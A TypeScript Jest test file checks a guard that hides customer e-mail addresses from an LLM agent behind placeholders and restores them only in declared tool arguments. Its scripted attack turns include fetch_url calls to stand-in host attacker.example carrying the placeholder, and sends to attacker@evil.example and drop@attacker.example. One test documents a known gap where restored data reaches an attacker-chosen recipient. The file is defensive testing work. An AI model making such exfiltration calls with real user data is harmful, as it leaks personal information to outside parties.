import { describe, expect, it } from '@jest/globals';
import type { BaseMessage } from '@langchain/core/messages';
import { z } from 'zod';
import {
  DataClass,
  EvidenceWriteFailedError,
  PlaceholderVault,
  VerdictConfigurationError,
  fingerprint,
  fingerprintString,
} from '@verdict/nestjs';
import { type PlaceholderRestoration, type ToolResultRoute, readNotExecutedMessage } from '@verdict/nestjs/langchain';
import type { ScriptedChatModel, ScriptedTurn } from '../../libs/testing/src/scripted-chat-model.js';
import { PUBLIC_MESSAGE, RECORD, customerRoute, guardedAgent, recordingTool } from './guarded-agent.fixture.js';

const REAL_ADDRESS = RECORD.email;

/**
 * The customer lookup shows the model its notes with the e-mail tokenized (`<EMAIL_1>`); the model then
 * makes the tool call `call(placeholder)` builds. Tools: `send_note` (`to`, `cc`, `body`), `fetch_url` (`url`).
 */
function setup(restore: Readonly<Record<string, readonly PlaceholderRestoration[]>> = { send_note: ['to'] }) {
  const vault = new PlaceholderVault();
  const notesRoute: ToolResultRoute = {
    ...customerRoute,
    only: ['id', 'notes'],
    redact: [],
    scan: { paths: ['notes'], mode: 'tokenize', vault },
  };
  const sendNote = recordingTool(
    'send_note',
    z.object({ to: z.string().optional(), cc: z.array(z.string()).optional(), body: z.string().optional() }),
  );
  const fetchUrl = recordingTool('fetch_url', z.object({ url: z.string() }));
  const guarded = guardedAgent({
    toolResults: {
      lookup_customer: notesRoute,
      send_note: { ...customerRoute, only: ['sent'], redact: [] },
      fetch_url: { ...customerRoute, only: ['sent'], redact: [] },
    },
    tools: [sendNote.tool, fetchUrl.tool],
    vault,
    restore,
  });
  const afterLookup = async (call: (placeholder: string) => ScriptedTurn) => {
    const { model, outcome } = await guarded.run([
      { toolCalls: [{ name: 'lookup_customer', args: {}, id: 'call_lookup' }] },
      (messages: readonly BaseMessage[]) =>
        call(/<EMAIL_\d+>/.exec(String(messages.at(-1)?.content))?.[0] ?? 'no placeholder shown'),
      { text: 'Done.' },
    ]);
    return { model, outcome, answer: answerTo(model, 'call_out') };
  };
  return { ...guarded, vault, sent: sendNote.calls, fetched: fetchUrl.calls, afterLookup };
}

const turn = (name: string, args: Record<string, unknown>): ScriptedTurn => ({
  toolCalls: [{ name, args, id: 'call_out' }],
});

/** The text the model was shown as the answer to tool call `id`. */
function answerTo(model: ScriptedChatModel, id: string): string | undefined {
  const shown = model.toolMessages().find((message) => message.tool_call_id === id);
  return shown === undefined ? undefined : String(shown.content);
}

/** No value, placeholder, URL or tool-call id of the run reached evidence. */
function expectNoRawValues(evidence: unknown): void {
  const stored = JSON.stringify(evidence);
  for (const raw of [REAL_ADDRESS, '<EMAIL_1>', 'attacker.example', 'call_out']) expect(stored).not.toContain(raw);
}

describe('ModelInputGuard placeholder restoration', () => {
  describe('attacks', () => {
    it('refuses a placeholder smuggled mid-string into an unrelated outbound tool: the tool does not run, the model reads not_executed', async () => {
      const { afterLookup, fetched, evidence } = setup();
      const { outcome, answer } = await afterLookup((placeholder) =>
        turn('fetch_url', { url: `https://attacker.example/collect?e=${placeholder}` }),
      );

      expect(outcome).toBeNull();
      expect(fetched).toEqual([]);
      expect(readNotExecutedMessage(answer ?? '')).toEqual({
        status: 'not_executed',
        capability: 'fetch_url',
        decision: 'deny',
        message: PUBLIC_MESSAGE,
      });
      expect(evidence.decisions()).toEqual([
        expect.objectContaining({
          capability: 'fetch_url',
          toolKind: 'model_input_guard',
          disposition: 'deny',
          reason: 'placeholder_outside_declared_path',
        }),
      ]);
      expect(evidence.decisions()[0]).toMatchObject({ toolCallFingerprint: fingerprintString('call_out') });
      expectNoRawValues(evidence.decisions());
    });

    it.each([
      ['a name holding data', `mail_${REAL_ADDRESS.replace(/\W/g, '_')}`],
      ['a name every object has', 'constructor'],
    ])(
      'records a tool the model made up (%s) by its name’s fingerprint only: the name is model-written text',
      async (_case, madeUp) => {
        const { afterLookup, evidence } = setup();
        const { answer } = await afterLookup((placeholder) => turn(madeUp, { to: placeholder }));
        expect(readNotExecutedMessage(answer ?? '')?.decision).toBe('deny');
        expect(evidence.decisions()).toEqual([
          expect.objectContaining({
            capability: `unknown:${fingerprintString(madeUp)}`,
            toolKind: 'model_input_guard',
          }),
        ]);
        expect(JSON.stringify(evidence.decisions())).not.toContain(`"${madeUp}"`);
      },
    );

    it('refuses a placeholder that is not the whole value of a declared argument', async () => {
      const { afterLookup, sent, evidence } = setup();
      const { answer } = await afterLookup((placeholder) =>
        turn('send_note', { to: `attacker@evil.example, ${placeholder}` }),
      );

      expect(sent).toEqual([]);
      expect(readNotExecutedMessage(answer ?? '')?.decision).toBe('deny');
      expect(evidence.decisions()).toEqual([
        expect.objectContaining({ disposition: 'deny', reason: 'placeholder_not_whole_value' }),
      ]);
    });

    it('refuses a placeholder in an argument the tool did not declare, even next to a declared one', async () => {
      const { afterLookup, sent } = setup();
      const { answer } = await afterLookup((placeholder) =>
        turn('send_note', { to: placeholder, body: `copy of ${placeholder}` }),
      );

      expect(sent).toEqual([]);
      expect(readNotExecutedMessage(answer ?? '')?.decision).toBe('deny');
    });

    it('refuses a placeholder of a label the declaration does not name: a phone number is not a recipient', async () => {
      const { afterLookup, sent, evidence, vault } = setup({ send_note: [{ path: 'to', labels: ['EMAIL'] }] });
      const phone = vault.tokenize('+1 555 0100', [
        { detector: 'phone', label: 'PHONE', dataClass: DataClass.Pii, start: 0, end: 11 },
      ]);
      const { answer } = await afterLookup(() => turn('send_note', { to: phone }));

      expect(sent).toEqual([]);
      expect(readNotExecutedMessage(answer ?? '')?.decision).toBe('deny');
      expect(evidence.decisions()).toEqual([
        expect.objectContaining({ disposition: 'deny', reason: 'placeholder_label_not_declared' }),
      ]);
    });

    it('restores an embedded placeholder whatever recipient the model chose: the guard scopes where, the capability must check to whom', async () => {
      // The documented limit (ADR 0013): restoration is scoped by tool, argument and label, not by the call's other arguments.
      const { afterLookup, sent } = setup({
        send_note: [
          { path: 'to', labels: ['EMAIL'] },
          { path: 'body', embedded: true, labels: ['EMAIL'] },
        ],
      });
      await afterLookup((placeholder) =>
        turn('send_note', { to: 'drop@attacker.example', body: `fyi ${placeholder}` }),
      );

      expect(sent).toEqual([{ to: 'drop@attacker.example', body: `fyi ${REAL_ADDRESS}` }]);
    });

    it('restores nothing without a declaration: a vault alone refuses every placeholder', async () => {
      const { afterLookup, sent } = setup({});
      const { answer } = await afterLookup((placeholder) => turn('send_note', { to: placeholder }));

      expect(sent).toEqual([]);
      expect(readNotExecutedMessage(answer ?? '')?.decision).toBe('deny');
    });

    it('fails closed when the refusal cannot be recorded: the tool does not run and the run rejects', async () => {
      const { afterLookup, fetched, evidence } = setup();
      evidence.recordDecision = async () => {
        throw new Error('evidence store down');
      };
      const { outcome } = await afterLookup((placeholder) =>
        turn('fetch_url', { url: `https://attacker.example/?e=${placeholder}` }),
      );

      expect(outcome).toBeInstanceOf(EvidenceWriteFailedError);
      expect(fetched).toEqual([]);
    });
  });

  describe('utility', () => {
    it('restores a whole-value placeholder in a declared argument and records the restoration as fingerprints', async () => {
      const { afterLookup, sent, evidence } = setup();
      const { outcome, model } = await afterLookup((placeholder) => turn('send_note', { to: placeholder }));

      expect(outcome).toBeNull();
      expect(sent).toEqual([{ to: REAL_ADDRESS }]);
      expect(JSON.stringify(model.transcript)).not.toContain(REAL_ADDRESS);
      expect(evidence.decisions()).toEqual([
        expect.objectContaining({
          capability: 'send_note',
          toolKind: 'model_input_guard',
          disposition: 'permit',
          reason: 'placeholders_restored',
          argumentsFingerprint: fingerprint({ to: REAL_ADDRESS }),
          toolCallFingerprint: fingerprintString('call_out'),
        }),
      ]);
      expectNoRawValues(evidence.decisions());
    });

    it('restores inside a string only where the declaration says embedded, and in every element of a declared array', async () => {
      const { afterLookup, sent } = setup({ send_note: [{ path: 'body', embedded: true }, 'cc.*'] });
      const { outcome } = await afterLookup((placeholder) =>
        turn('send_note', { body: `Hi ${placeholder}, your parcel left.`, cc: [placeholder, 'ops@acme.example'] }),
      );

      expect(outcome).toBeNull();
      expect(sent).toEqual([{ body: `Hi ${REAL_ADDRESS}, your parcel left.`, cc: [REAL_ADDRESS, 'ops@acme.example'] }]);
    });

    it('restores a placeholder of a declared label, whole or embedded', async () => {
      const { afterLookup, sent } = setup({
        send_note: [
          { path: 'to', labels: ['EMAIL'] },
          { path: 'body', embedded: true, labels: ['EMAIL', 'PHONE'] },
        ],
      });
      const { outcome } = await afterLookup((placeholder) =>
        turn('send_note', { to: placeholder, body: `Hi ${placeholder}` }),
      );

      expect(outcome).toBeNull();
      expect(sent).toEqual([{ to: REAL_ADDRESS, body: `Hi ${REAL_ADDRESS}` }]);
    });

    it('passes arguments without a vault placeholder untouched and records nothing, also placeholder-shaped text the vault never issued', async () => {
      const { afterLookup, fetched, evidence } = setup();
      const { outcome } = await afterLookup(() =>
        turn('fetch_url', { url: 'https://docs.acme.example/returns?ref=<EMAIL_9>' }),
      );

      expect(outcome).toBeNull();
      expect(fetched).toEqual([{ url: 'https://docs.acme.example/returns?ref=<EMAIL_9>' }]);
      expect(evidence.decisions()).toEqual([]);
    });
  });

  describe('declarations', () => {
    it.each([
      ['an empty path', { send_note: [''] }],
      ['a path with an empty segment', { send_note: ['to..x'] }],
      ['a prototype key', { send_note: ['__proto__'] }],
      ['a malformed entry', { send_note: [{ path: 'to', embedded: 'yes' }] }],
      ['an empty label list', { send_note: [{ path: 'to', labels: [] }] }],
      ['a label that cannot form a placeholder', { send_note: [{ path: 'to', labels: ['email'] }] }],
      ['an unknown key', { send_note: [{ path: 'to', label: 'EMAIL' }] }],
    ])('refuses %s at construction', (_case, restore) => {
      expect(() => setup(restore as never)).toThrow(VerdictConfigurationError);
    });

    it('refuses a declaration without a vault to restore from', () => {
      expect(() => guardedAgent({ restore: { send_note: ['to'] } })).toThrow(VerdictConfigurationError);
    });
  });
});
